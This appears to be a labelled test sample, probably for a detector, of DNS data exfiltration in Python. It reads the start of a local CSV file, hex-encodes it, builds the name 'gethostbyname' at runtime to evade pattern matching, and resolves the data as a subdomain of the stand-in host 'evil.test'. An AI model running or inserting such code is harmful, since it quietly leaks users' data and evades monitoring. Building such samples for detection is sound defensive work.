# hostile: name resolution function fetched by a built name (DNS exfiltration, T1048)
import socket

secret = open("/work/data.csv").read(30).encode().hex()
resolve = getattr(socket, "gethost" + "byname")
resolve(secret + ".x.evil.test")
